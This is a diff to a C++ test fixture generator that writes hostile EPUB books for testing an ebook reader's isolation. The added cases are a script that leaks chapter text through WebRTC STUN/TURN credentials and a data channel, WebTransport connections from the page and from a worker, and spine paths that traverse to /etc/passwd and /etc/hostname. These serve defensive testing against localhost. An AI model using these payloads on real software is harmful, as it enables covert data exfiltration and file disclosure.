@@ -37,7 +37,26 @@ std::vector<HostileBook> WriteHostileBooks(const std::string& folder, const std:
         std::vector<int> missingRows;
         int crashAtChapter = 0;
         bool mayMiss = false;
+        bool refusedAtOnce = false;
     };
+    // Peer connections reach servers the request interceptor never sees: STUN and TURN over UDP and TCP, with a
+    // data channel, from the page itself and from an empty frame it makes.
+    const std::string address = "127.0.0.1:" + std::to_string(port);
+    const std::string peers =
+        "var servers = [{urls: ['stun:" + address + "', 'turn:" + address + "?transport=udp', 'turn:" + address +
+        "?transport=tcp'], username: 'EXFIL-' + document.body.textContent.slice(0, 20), credential: 'x'}];"
+        "function call(Connection) {"
+        "  try {"
+        "    var connection = new Connection({iceServers: servers, iceCandidatePoolSize: 4});"
+        "    connection.createDataChannel('leak');"
+        "    connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });"
+        "  } catch (e) {}"
+        "}"
+        "call(window.RTCPeerConnection);"
+        "call(window.webkitRTCPeerConnection);"
+        "var frame = document.createElement('iframe');"
+        "document.body.appendChild(frame);"
+        "call(frame.contentWindow.RTCPeerConnection);";
     std::string bands;
     for (int i = 0; i < 12; ++i) {
         bands += "<div style='height:1000px;background:#20a040'></div>";
@@ -61,6 +80,18 @@ std::vector<HostileBook> WriteHostileBooks(const std::string& folder, const std:
                           home + "image';")),
            "Reader"}}},
         {"websocket", {{"ws.xhtml", Chapter(Script("new WebSocket('" + ws + "');")), "Socket"}}},
+        {"web-transport",
+         {{"transport.xhtml",
+           Chapter(Script("try { new WebTransport('https://" + address +
+                          "/'); } catch (e) {}"
+                          "var worker = 'try { new WebTransport(\\'https://" +
+                          address +
+                          "/w\\'); } catch (e) {}';"
+                          "try { new Worker(URL.createObjectURL(new Blob([worker]))); } catch (e) {}")),
+           "Transport"}}},
+        {"peer-connection",
+         {{"peers.xhtml", Chapter("<p>Secret chapter text</p>" + Script(peers)), "Peers"},
+          {"after.xhtml", Chapter(""), "After"}}},
         {"script-clicks-an-external-link",
          {{"click.xhtml",
            Chapter("<a id='out' href='https://example.com/'>out</a>" +
@@ -78,6 +109,15 @@ std::vector<HostileBook> WriteHostileBooks(const std::string& folder, const std:
         {"missing-chapter-file",
          {{"here.xhtml", Chapter(""), "Here"}, {"gone.xhtml", "", "Gone"}, {"after.xhtml", Chapter(""), "After"}},
          {2}},
+        {"chapters-out-of-the-book",
+         {{"../../../../../../../../etc/passwd.xhtml", "", "Passwords"},
+          {"%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hostname.xhtml", "", "Host"},
+          {"here.xhtml", Chapter(""), "Here"},
+          {"../outside.xhtml", "", "Outside"}},
+         {1, 2, 4},
+         0,
+         false,
+         true},
         {"loop-after-load",
          {{"loop.xhtml", Chapter(Script("setTimeout(function () { for (;;) {} }, 0);")), "Loop"},
           {"next.xhtml", Chapter(""), "Next"}},
@@ -108,6 +148,7 @@ std::vector<HostileBook> WriteHostileBooks(const std::string& folder, const std:
         book.chapters = static_cast<int>(definition.spine.size());
         book.crashAtChapter = definition.crashAtChapter;
         book.mayMiss = definition.mayMiss;
+        book.refusedAtOnce = definition.refusedAtOnce;
         WriteZipFile(book.path, FixtureEpub(definition.spine));
         books.push_back(book);
     }
